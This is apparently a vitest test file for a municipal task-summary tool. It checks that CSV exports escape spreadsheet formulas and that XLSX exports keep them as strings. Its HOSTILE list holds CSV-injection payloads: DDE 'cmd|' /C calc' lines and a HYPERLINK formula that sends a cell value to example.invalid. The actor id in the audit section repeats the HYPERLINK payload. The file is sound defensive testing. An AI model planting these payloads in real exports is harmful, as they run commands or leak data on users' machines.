/**
 * Every CSV luoshi writes (the per-unit and the city-wide summary table, the audit trail) goes through one cell
 * function: no field begins with a character a spreadsheet would run as a formula, every record has as many fields
 * as the header, and luoshi reads its own CSV back to the same plan. The XLSX exports keep such texts as strings.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { expect, it } from 'vitest';
import { readSummaryDocument, writeSummaryDocument } from '../../src/documents/index.js';
import { canonicalTable, type SummaryTable } from '../../src/domain/summary-table.js';
import { exportAuditEvents } from '../../src/services/audit.js';
import { findOrganisationByName, listPlanSummaries } from '../../src/services/catalogue.js';
import { exportCitySummary } from '../../src/services/city-summary.js';
import { createServiceContext } from '../../src/services/context.js';
import { importSummaryTable } from '../../src/services/import.js';
import { exportOrganisationSummary } from '../../src/services/summary.js';
import { buildSummaryItem, buildSummaryTable, buildSummaryTask } from '../factories/summary-table.js';
import { describeEachDatabase } from '../helpers/database.js';

const FORMULA_START = /^[=+\-@\t\r]/;

const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=以撇号开头的公式",
  '-5%',
];

function hostileTable(): SummaryTable {
  return buildSummaryTable({
    title: '2031年度市政府工作任务完成情况汇总表',
    organisation: '市发改委',
    chapters: [
      {
        numeral: '一',
        title: '=章节标题',
        tasks: HOSTILE.map((text, index) =>
          buildSummaryTask({
            number: String(index + 1),
            name: text,
            items: [buildSummaryItem({ work: text, lead: '市发改委', cooperating: '市财政局', completion: `${text}\n第二行` })],
          }),
        ),
      },
    ],
  });
}

/** Fields exactly as written in the file (RFC 4180 quotes taken off, nothing else). */
function rawRecords(bytes: Buffer): string[][] {
  const text = bytes.toString('utf8');
  expect(text.startsWith('\ufeff')).toBe(true);
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 1; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') (field += '"'), index++;
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"' && field === '') quoted = true;
    else if (char === ',') record.push(field), (field = '');
    else if (char === '\r' && text[index + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), index++;
    else field += char;
  }
  expect(quoted).toBe(false);
  expect(record).toEqual([]);
  return records;
}

function expectSafeCsv(bytes: Buffer, label: string): string[][] {
  const records = rawRecords(bytes);
  expect(records.length, label).toBeGreaterThan(1);
  expect(new Set(records.map((record) => record.length)).size, `${label}: every record as wide as the header`).toBe(1);
  for (const field of records.flat()) expect(field, label).not.toMatch(FORMULA_START);
  return records;
}

/** Every cell of the first sheet whose text starts like a formula is a string, and none is a formula. */
async function expectStringCells(bytes: Buffer, label: string): Promise<number> {
  const zip = await JSZip.loadAsync(bytes);
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  expect(sheet, `${label}: no formula written`).not.toMatch(/<f[ >]/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  let hostile = 0;
  workbook.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      if (typeof cell.value === 'string' && FORMULA_START.test(cell.value)) hostile++;
      expect(cell.type, label).not.toBe(ExcelJS.ValueType.Formula);
    }),
  );
  return hostile;
}

describeEachDatabase('CSV exports neutralise formulas and read back exactly', (database) => {
  const ctx = () => createServiceContext(database().db, () => new Date('2032-01-05T02:00:00Z'));
  // the audit trail's actor and source are texts from outside too (a user name typed at sign-in)
  const actor = { id: '=HYPERLINK("http://example.invalid","审计")', source: '@来源' };

  it('per-unit, city-wide and audit CSV: no field begins with =, +, -, @, tab or CR; every record equally wide', async () => {
    await importSummaryTable(ctx(), actor, { bytes: await writeSummaryDocument(hostileTable(), 'json'), fileName: '+导入.json' });
    const unit = await findOrganisationByName(ctx(), '市发改委');
    const plan = (await listPlanSummaries(ctx()))[0]!;

    const perUnit = await exportOrganisationSummary(ctx(), { organisationId: unit.id, format: 'csv' });
    const perUnitRecords = expectSafeCsv(perUnit.bytes, 'per-unit');
    expect(perUnitRecords.flat()).toContain(`'${HOSTILE[0]}`);
    expect(perUnitRecords.flat()).toContain(`''=以撇号开头的公式`);

    const city = await exportCitySummary(ctx(), { planId: plan.id, periodCode: '2031-Y', format: 'csv' });
    expect(expectSafeCsv(city.bytes, 'city-wide').flat()).toContain(`'${HOSTILE[1]}`);

    const audit = await exportAuditEvents(ctx(), {}, 'csv');
    expect(expectSafeCsv(audit, 'audit').flat()).toContain(`'${actor.id}`);

    // the same texts in the XLSX exports are strings, which a spreadsheet does not run
    const perUnitXlsx = await exportOrganisationSummary(ctx(), { organisationId: unit.id, format: 'xlsx' });
    expect(await expectStringCells(perUnitXlsx.bytes, 'per-unit xlsx')).toBeGreaterThan(0);
    const cityXlsx = await exportCitySummary(ctx(), { planId: plan.id, periodCode: '2031-Y', format: 'xlsx' });
    expect(await expectStringCells(cityXlsx.bytes, 'city-wide xlsx')).toBeGreaterThan(0);
    expect(await expectStringCells(await exportAuditEvents(ctx(), {}, 'xlsx'), 'audit xlsx')).toBeGreaterThan(0);
  });

  it('import → CSV export → import gives the same plan, texts starting with an apostrophe included', async () => {
    const unit = await findOrganisationByName(ctx(), '市发改委');
    const exported = await exportOrganisationSummary(ctx(), { organisationId: unit.id, format: 'csv' });
    const read = await readSummaryDocument(exported.bytes, exported.fileName);
    const json = await exportOrganisationSummary(ctx(), { organisationId: unit.id, format: 'json' });
    const stored = (await readSummaryDocument(json.bytes, json.fileName)).table;
    // a CSV has no title row and no unit line: the rest is the table as stored
    expect(canonicalTable(read.table)).toEqual(canonicalTable({ ...stored, title: '', organisation: '' }));
    expect(read.table.chapters[0]!.tasks.map((task) => task.name)).toEqual(HOSTILE);

    const again = await importSummaryTable(ctx(), actor, {
      bytes: exported.bytes,
      fileName: exported.fileName,
      year: 2031,
      organisation: '市发改委',
    });
    expect(again.warnings).toEqual([]);
    expect(again.changes).toMatchObject({ plans: 0, chapters: 0, tasks: 0, items: 0, reports: 0, revisedReports: 0 });
  });
});
